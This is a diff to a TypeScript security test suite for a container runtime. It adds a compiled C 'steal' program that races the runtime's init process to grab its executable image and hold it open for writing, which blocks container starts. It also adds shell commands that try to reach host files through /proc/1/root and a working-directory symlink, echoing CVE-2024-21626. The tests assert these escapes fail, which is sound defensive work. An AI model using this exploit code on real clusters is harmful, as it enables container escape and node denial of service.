@@ -5,10 +5,12 @@
 // through the handles once they are free. It runs with CAP_SYS_PTRACE, so a non-dumpable helper
 // does not stop it from taking the handle: what it holds must be a copy it cannot write. Without
 // the capability the pod's init does not even give it the handle.
+// The later tests go around the images: the pod init's root and working directory (the host's),
+// an exec whose working directory leads there, and a writer held open on an image (ETXTBSY).
 import { expect } from 'chai';
 import { createHash } from 'node:crypto';
 import { execFileSync } from 'node:child_process';
-import { mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
@@ -137,6 +139,116 @@ int main(int argc, char **argv) {
   return 0;
 }
 `;
+/**
+ * steal SECONDS: needs no capability and no root. Watches /proc for skiff-init processes of its pid
+ * namespace and steps each with SIGSTOP / SIGCONT, trying /proc/<pid>/exe at every stop. A
+ * skiff-init whose command is /proc/self/exe runs the helper's image once more, dumpable from that
+ * execve until its main() calls prctl: a SIGSTOP that arrives during the execve stops it right
+ * there. With the image in hand it reopens it O_WRONLY (every write fails, the seals hold, but the
+ * open counts as a writer, and the kernel refuses to execute a file open for writing: ETXTBSY) and
+ * keeps that fd. Prints "stolen pid= exe=" and "writer held exe=" (or "writer exe= errno=").
+ */
+const STEAL_C = `
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/syscall.h>
+#include <time.h>
+#include <unistd.h>
+static unsigned char seen[4194304 / 8 + 1];
+static int stolen = -1, writer = -1;
+static char stolen_link[256];
+static char state_of(int pid) {
+  char path[64], buf[512], *p;
+  int fd;
+  ssize_t n;
+  snprintf(path, sizeof path, "/proc/%d/stat", pid);
+  if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0) return 0;
+  n = read(fd, buf, sizeof buf - 1);
+  close(fd);
+  if (n <= 0) return 0;
+  buf[n] = 0;
+  p = strrchr(buf, ')');
+  return p && p[1] ? p[2] : 0;
+}
+static void step(int pid) {
+  char path[64], self[64], link[256];
+  for (int i = 0; i < 100000; i++) {
+    char s;
+    int spins = 0, fd;
+    /* EPERM while it still runs as root and we do not: it turns into the exec's user soon. */
+    if (kill(pid, SIGSTOP) < 0) { if (errno == EPERM) continue; return; }
+    while ((s = state_of(pid)) && s != 'T' && s != 't' && s != 'Z' && spins++ < 200000) {}
+    if (!s || s == 'Z') return;
+    snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd >= 0) {
+      ssize_t l;
+      snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+      l = readlink(self, link, sizeof link - 1);
+      link[l > 0 ? l : 0] = 0;
+      kill(pid, SIGCONT);
+      if (strstr(link, "skiff-") && stolen < 0) {
+        stolen = fd;
+        strcpy(stolen_link, link);
+        printf("stolen pid=%d exe=%s\\n", pid, link);
+        return;
+      }
+      close(fd);
+      if (!strstr(link, "skiff-")) return; /* it runs its command: too late */
+      continue;
+    }
+    kill(pid, SIGCONT);
+  }
+}
+int main(int argc, char **argv) {
+  int self = getpid(), procfd;
+  time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 60);
+  static char buf[65536];
+  setvbuf(stdout, NULL, _IOLBF, 0);
+  procfd = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+  if (procfd < 0) { perror("open /proc"); return 1; }
+  printf("ready pid=%d\\n", self);
+  while (time(NULL) < end) {
+    long n;
+    lseek(procfd, 0, SEEK_SET);
+    while ((n = syscall(SYS_getdents64, procfd, buf, sizeof buf)) > 0) {
+      for (long off = 0; off < n;) {
+        unsigned short reclen = *(unsigned short *)(buf + off + 16);
+        const char *name = buf + off + 19;
+        char *e, comm[64] = "", path[64];
+        long pid = strtol(name, &e, 10);
+        int fd;
+        off += reclen;
+        if (*e || pid <= 0 || pid > 4194304 || pid == self || (seen[pid / 8] & (1 << (pid % 8)))) continue;
+        seen[pid / 8] |= 1 << (pid % 8);
+        snprintf(path, sizeof path, "/proc/%ld/comm", pid);
+        if ((fd = open(path, O_RDONLY | O_CLOEXEC)) >= 0) {
+          ssize_t k = read(fd, comm, sizeof comm - 1);
+          close(fd);
+          comm[k > 0 ? k : 0] = 0;
+        }
+        if (strncmp(comm, "skiff-init", 10) == 0) step((int)pid);
+      }
+    }
+    if (stolen >= 0 && writer == -1) {
+      char again[64];
+      snprintf(again, sizeof again, "/proc/self/fd/%d", stolen);
+      writer = open(again, O_WRONLY | O_CLOEXEC);
+      if (writer >= 0) printf("writer held exe=%s\\n", stolen_link);
+      else if (errno != ETXTBSY) { printf("writer exe=%s errno=%d\\n", stolen_link, errno); writer = -2; }
+      else writer = -1;
+    }
+    usleep(200);
+  }
+  printf("done\\n");
+  return 0;
+}
+`;
 const EPERM = 1;
 const HELPERS = ['skiff-init', 'skiff-monitor', 'skiff-pinns', 'skiff-hostinfo'];
 
@@ -183,8 +295,10 @@ describe('helper images: no host helper binary is reachable from a container', f
   before(async function () {
     for (const h of HELPERS) original.set(h, readFileSync(join(DEFAULT_HELPER_DIR, h)));
     buildDir = mkdtempSync(join(tmpdir(), 'skiff-grab-'));
-    writeFileSync(join(buildDir, 'grab.c'), GRAB_C);
-    execFileSync('gcc', ['-static', '-O2', '-o', join(buildDir, 'grab'), join(buildDir, 'grab.c')], { stdio: 'pipe' });
+    for (const [name, source] of [['grab', GRAB_C], ['steal', STEAL_C]] as const) {
+      writeFileSync(join(buildDir, `${name}.c`), source);
+      execFileSync('gcc', ['-static', '-O2', '-o', join(buildDir, name), join(buildDir, `${name}.c`)], { stdio: 'pipe' });
+    }
     reg = await startRegistry();
     const layers = await Promise.all([
       busyboxLayer({ gzip: true }),
@@ -192,6 +306,7 @@ describe('helper images: no host helper binary is reachable from a container', f
         [
           { path: 'usr/local/bin', type: 'dir' },
           { path: 'usr/local/bin/grab', type: 'file', content: readFileSync(join(buildDir, 'grab')), mode: 0o755 },
+          { path: 'usr/local/bin/steal', type: 'file', content: readFileSync(join(buildDir, 'steal')), mode: 0o755 },
         ],
         { gzip: true },
       ),
@@ -272,5 +387,71 @@ describe('helper images: no host helper binary is reachable from a container', f
     expect((await exec(id, ['/bin/cat', '/proc/1/cmdline'])).stdout.toString()).to.equal('skiff-pod-init\0');
     expect((await exec(id, ['/bin/cat', '/proc/1/comm'])).stdout.toString()).to.equal('skiff-pod-init\n');
     await call(d.runtime, 'stopContainer', { containerId: id, timeout: 0n });
+  });
+
+  // The pod's init is pid 1 of every shared-PID pod. Its root and working directory are the host's
+  // "/" and it holds every capability, so the non-dumpable flag is all that stands between a
+  // container and /proc/1/root; a holder of CAP_SYS_PTRACE passes it (as the attacker above does).
+  it("gives a container with CAP_SYS_PTRACE no way to the host's files through the pod init's /proc/1/root or /proc/1/cwd", async function () {
+    const secret = `host-only-${process.pid}-1`;
+    const marker = join(buildDir, 'marker-ptrace');
+    writeFileSync(marker, secret);
+    const { id } = await create({
+      command: ['/bin/sleep', '600'],
+      linux: { securityContext: { capabilities: { addCapabilities: ['SYS_PTRACE'] } } },
+    });
+    try {
+      const r = await exec(id, ['/bin/sh', '-c', `cat /proc/1/root${marker} /proc/1/cwd${marker}; echo written > /proc/1/root${marker}.w`]);
+      expect(r.stdout.toString(), r.stderr.toString()).to.not.include(secret);
+      expect(existsSync(`${marker}.w`)).to.equal(false);
+    } finally {
+      await call(d.runtime, 'stopContainer', { containerId: id, timeout: 0n });
+    }
+  });
+
+  // runc refuses this since CVE-2024-21626 ("current working directory is outside of container mount
+  // namespace root"): skiff-init follows the working directory as a path, magic links included,
+  // while it still holds every capability, so /proc/1/root of the pod's init takes it to the host.
+  it("runs an exec inside the container when the container made its working directory a symlink to /proc/1/root", async function () {
+    const secret = `host-only-${process.pid}-2`;
+    const marker = join(buildDir, 'marker-cwd');
+    writeFileSync(marker, secret);
+    // No capability beyond the defaults; the exec is what kubelet's exec probe would run.
+    const { id, name } = await create({
+      command: ['/bin/sh', '-c', 'cd / && rmdir /w && ln -s /proc/1/root /w && echo swapped && exec sleep 600'],
+      workingDir: '/w',
+    });
+    try {
+      for (let i = 0; i < 100 && !logOf(name).includes('swapped'); i++) await sleep(20);
+      const r = await exec(id, ['/bin/sh', '-c', `cat .${marker}; echo written > .${marker}.w`]).catch((e: unknown) => e);
+      const out = r instanceof Error ? r.message : `${(r as ExecSyncResponse).stdout.toString()} ${(r as ExecSyncResponse).stderr.toString()}`;
+      expect(out).to.not.include(secret);
+      expect(existsSync(`${marker}.w`), out).to.equal(false);
+    } finally {
+      await call(d.runtime, 'stopContainer', { containerId: id, timeout: 0n });
+    }
+  });
+
+  // Every start and exec on the node runs skiff-init from one sealed memfd. Seals stop writes, not
+  // an open for writing, and while any fd is open for writing the kernel executes the file for
+  // nobody (ETXTBSY). A container gets that fd without any capability or root: an exec whose command
+  // is /proc/self/exe runs skiff-init's image in the container, dumpable until its main() runs.
+  it('lets no container, not even through /proc/self/exe, keep the node from starting containers and running execs', async function () {
+    const attacker = await create({ command: ['/usr/local/bin/steal', '60'], linux: { securityContext: { runAsUser: { value: 1000 } } } });
+    const victim = await create({ command: ['/bin/sleep', '600'] });
+    try {
+      for (let i = 0; i < 50 && !logOf(attacker.name).some((l) => l.startsWith('writer')); i++) {
+        // kubelet runs exactly this for an exec probe the pod itself declares.
+        await exec(attacker.id, ['/proc/self/exe']).catch(() => undefined);
+      }
+      const report = `the attacker printed:\n${logOf(attacker.name).join('\n')}`;
+      const r = await exec(victim.id, ['/bin/echo', 'still-works']).catch((e: unknown) => e);
+      expect(r instanceof Error ? r.message : (r as ExecSyncResponse).stdout.toString(), report).to.equal('still-works\n');
+      const started = await create({ command: ['/bin/true'] }).then(() => 'started', (e: unknown) => String(e));
+      expect(started, report).to.equal('started');
+    } finally {
+      await call(d.runtime, 'stopContainer', { containerId: attacker.id, timeout: 0n }).catch(() => undefined);
+      await call(d.runtime, 'stopContainer', { containerId: victim.id, timeout: 0n }).catch(() => undefined);
+    }
   });
 });
